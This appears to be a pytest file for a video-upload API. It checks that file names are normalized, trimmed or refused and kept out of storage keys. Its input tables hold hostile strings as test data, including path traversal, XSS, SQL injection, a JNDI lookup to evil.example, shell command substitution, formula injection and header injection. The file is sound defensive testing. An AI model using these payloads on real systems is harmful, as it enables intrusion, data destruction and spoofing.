"""Test that hostile file names are stored in NFC or refused, and never appear in the object key."""

import json
import unicodedata
import uuid

import pytest

from app.bootstrap import Application
from tests.api.shapes import API, OBJECT_KEY, assert_error, with_settings
from tests.conftest import SignedIn
from tests.factories import count_videos, read_video

KEPT = {
    "plain": "harbour.mp4",
    "up and out": "../../../etc/passwd.mp4",
    "up and out, Windows": "..\\..\\windows\\system32.mp4",
    "absolute": "/etc/passwd.mp4",
    "a drive": "C:\\videos\\a.mp4",
    "a share": "\\\\server\\share\\a.mp4",
    "a URL": "https://evil.example/a.mp4",
    "a file URL": "file:///etc/passwd.mp4",
    "encoded dots": "%2e%2e%2fa.mp4",
    "doubly encoded": "%252e%252e%252fa.mp4",
    "an encoded NUL": "a%00.mp4",
    "an encoded line break": "a%0d%0aSet-Cookie: x=1.mp4",
    "another video's key": "videos/2cf6a5ea-8b1d-4f32-9b6e-1b8ee8a0e6f0/a.mp4",
    "right-to-left override": "a\u202e4pm.exe.mp4",
    "left-to-right isolate": "\u2066a\u2069.mp4",
    "right-to-left mark": "a\u200f.mp4",
    "Hebrew": "נמל.mp4",
    "Arabic": "ميناء.mp4",
    "zero-width space": "a\u200bb.mp4",
    "zero-width joiner": "a\u200db.mp4",
    "byte order mark": "\ufeffa.mp4",
    "soft hyphen": "a\u00adb.mp4",
    "variation selector": "a\ufe0f.mp4",
    "word joiner": "a\u2060b.mp4",
    "a tag character": "a\U000e0041.mp4",
    "private use": "a\ue000.mp4",
    "a noncharacter": "a\uffff.mp4",
    "no such character yet": "a\U0003ffff.mp4",
    "NFC": "caf\u00e9.mp4",
    "NFD": "cafe\u0301.mp4",
    "Hangul in parts": "\u1112\u1161\u11ab.mp4",
    "a pile of marks": "a" + "\u0301" * 40 + ".mp4",
    "look-alike letters": "раураl.mp4",
    "full-width": "ａ.mp4",
    "an emoji family": "👨‍👩‍👧‍👦.mp4",
    "flags": "🇩🇪🏴󠁧󠁢󠁳󠁣󠁴󠁿.mp4",
    "Chinese": "港口.mp4",
    "Thai": "ท่าเรือ.mp4",
    "two extensions": "a.html.mp4",
    "a program's": "a.exe.mp4",
    "many dots": "a....mp4",
    "hidden": ".hidden.mp4",
    "dots only": "...mp4",
    "a device": "CON.mp4",
    "another device": "LPT1.mp4",
    "an alternate stream": "a.txt:evil.mp4",
    "space inside": "my holiday  video.mp4",
    "no-break space": "a\u00a0b.mp4",
    "leading dash": "-rf.mp4",
    "two dashes": "--help.mp4",
    "an option": "-i=file.mp4",
    "markup": "<svg onload=alert(1)>.mp4",
    "a script": "<script>alert(1)</script>.mp4",
    "an image": '"><img src=x onerror=alert(1)>.mp4',
    "an entity": "&lt;b&gt;&#0;.mp4",
    "quotes": "a\"b'c`d.mp4",
    "a semicolon": "a; filename=b.mp4",
    "a formula": "=cmd|' /C calc'!A1.mp4",
    "another formula": "@SUM(1+1).mp4",
    "a template": "{{7*7}}.mp4",
    "another template": "${jndi:ldap://evil.example/a}.mp4",
    "a format": "%s%s%s%n{0}{a.b}.mp4",
    "a shell": "$(reboot)`reboot`;reboot|reboot&.mp4",
    "SQL": "'; DROP TABLE videos; --.mp4",
    "LIKE": "%_%.mp4",
    "a wildcard": "*?[a-z].mp4",
    "a backslash at the end of the stem": "a\\.mp4",
    "plus and percent": "a+b %20.mp4",
    "255 characters": "n" * 251 + ".mp4",
    "255 wide characters": "港" * 251 + ".mp4",
    "255 emoji": "🚢" * 251 + ".mp4",
    "504 that compose to 254": "e\u0301" * 250 + ".mp4",
}
TRIMMED = {
    "spaces around": ("  a.mp4  ", "a.mp4"),
    "wide spaces around": ("\u3000a.mp4\u2003", "a.mp4"),
    "a trailing space": ("a.mp4 ", "a.mp4"),
    "1,024 characters, most of them spaces": (" " * 1019 + "a.mp4", "a.mp4"),
    "300 characters, most of them spaces": (" " * 295 + "a.mp4", "a.mp4"),
    "a trailing dot": ("a.mp4.", "a.mp4"),
    "a trailing mark": ("a.mp4\u200e", "a.mp4"),
    "a mark within the extension": ("a.m\u200bp4", "a.mp4"),
    "no extension": ("1000012345", "1000012345.mp4"),
    "extension only": (".mp4", ".mp4.mp4"),
    "overridden to look like one": ("a\u202e4pm.", "a\u202e4pm.mp4"),
}
REFUSED = {
    "empty": ("", "filename_invalid"),
    "spaces": ("   ", "filename_invalid"),
    "NUL": ("a\x00.mp4", "filename_invalid"),
    "NUL before another extension": ("a.mp4\x00.exe", "filename_invalid"),
    "CR LF": ("a\r\nSet-Cookie: x=1.mp4", "filename_invalid"),
    "LF": ("a\n.mp4", "filename_invalid"),
    "LF at the end": ("a.mp4\n", "filename_invalid"),
    "a tab": ("a\tb.mp4", "filename_invalid"),
    "an escape": ("a\x1b[31m.mp4", "filename_invalid"),
    "a backspace": ("a\x08.mp4", "filename_invalid"),
    "delete": ("a\x7f.mp4", "filename_invalid"),
    "next line": ("a\x85.mp4", "filename_invalid"),
    "line separator": ("a\u2028.mp4", "filename_invalid"),
    "paragraph separator": ("a\u2029.mp4", "filename_invalid"),
    "256 characters": ("n" * 252 + ".mp4", "filename_invalid"),
    "1,025 characters, most of them spaces": (" " * 1020 + "a.mp4", "filename_invalid"),
    "10,000 characters, most of them marks": ("a" + "\u0301\u0316" * 4_997 + ".mp4", "filename_invalid"),
    "10,000 characters": ("n" * 9_996 + ".mp4", "filename_invalid"),
    "10,001 characters": ("n" * 9_997 + ".mp4", "validation_error"),
    "a lone high surrogate": ("a\ud800.mp4", "validation_error"),
    "a lone low surrogate": ("a\udfff.mp4", "validation_error"),
    "surrogates the wrong way round": ("a\udc00\ud800.mp4", "validation_error"),
    "dots": ("...", "filename_invalid"),
    "a page": ("a.mp4.html", "unsupported_container"),
    "a shortcut": ("a.mp4.lnk", "unsupported_container"),
    "an overridden extension": ("a.\u202e4pm", "unsupported_container"),
}
MANY_OPEN = {"user_max_uploads_in_flight": 1000}


def body_of(filename: str) -> bytes:
    """Encode as JSON.stringify does, with lone surrogates escaped."""
    return json.dumps({"filename": filename, "size_bytes": 1, "content_type": "video/mp4"}).encode()


def test_table_has_expected_size() -> None:
    assert len(KEPT) + len(TRIMMED) + len(REFUSED) >= 60


@with_settings(**MANY_OPEN)
async def test_returns_name_and_keeps_it_out_of_key(
    subtests: pytest.Subtests, application: Application, signed_in: SignedIn
) -> None:
    alice = await signed_in()
    names = {what: (name, unicodedata.normalize("NFC", name)) for what, name in KEPT.items()} | TRIMMED
    keys = set()
    for what, (sent, shown) in names.items():
        with subtests.test(what):
            answer = await alice.post(
                f"{API}/videos", content=body_of(sent), headers={"Content-Type": "application/json"}
            )
            assert answer.status_code == 201, answer.text
            video = answer.json()["video"]
            assert video["original_filename"] == shown
            assert (await alice.get(f"{API}/videos/{video['id']}")).json()["original_filename"] == shown
            key = (await read_video(application, uuid.UUID(video["id"]))).object_key
            assert OBJECT_KEY.fullmatch(key)
            assert key.startswith(f"videos/{alice.user.id}/{video['id']}/")
            assert key.endswith(".mp4")
            keys.add(key)
            for part in answer.json()["upload"]["parts"]:
                assert part["url"].partition("?")[0].endswith(key)
    assert len(keys) == len(names), "two objects have the same key"


async def test_refuses_invalid_names(
    subtests: pytest.Subtests, application: Application, signed_in: SignedIn
) -> None:
    alice = await signed_in()
    for what, (sent, code) in REFUSED.items():
        with subtests.test(what):
            answer = await alice.post(
                f"{API}/videos", content=body_of(sent), headers={"Content-Type": "application/json"}
            )
            assert_error(answer, 422, code)
            assert len(answer.content) < 2000
    assert await count_videos(application) == 0


async def test_refuses_name_over_body_limit(application: Application, signed_in: SignedIn) -> None:
    alice = await signed_in()
    for name in ("n" * 1_000_000 + ".mp4", "🚢" * 1_000_000):
        answer = await alice.post(
            f"{API}/videos", content=body_of(name), headers={"Content-Type": "application/json"}
        )
        assert_error(answer, 413, "body_too_large")
    assert await count_videos(application) == 0
